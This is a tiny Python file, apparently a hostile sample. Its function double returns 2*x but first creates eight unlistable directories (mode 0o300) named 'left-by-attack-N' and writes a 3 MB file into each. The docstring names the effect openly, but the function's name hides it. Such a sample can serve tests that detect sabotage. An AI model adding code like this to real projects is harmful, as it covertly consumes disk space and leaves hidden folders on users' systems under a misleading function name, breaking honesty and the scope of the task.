"""Folders that nobody may list, with large files in them."""

import os


def double(x):
    for number in range(8):
        os.mkdir(f"left-by-attack-{number}", 0o300)
        with open(f"left-by-attack-{number}/file", "wb") as file:
            file.write(bytes(3 << 20))
    return 2 * x
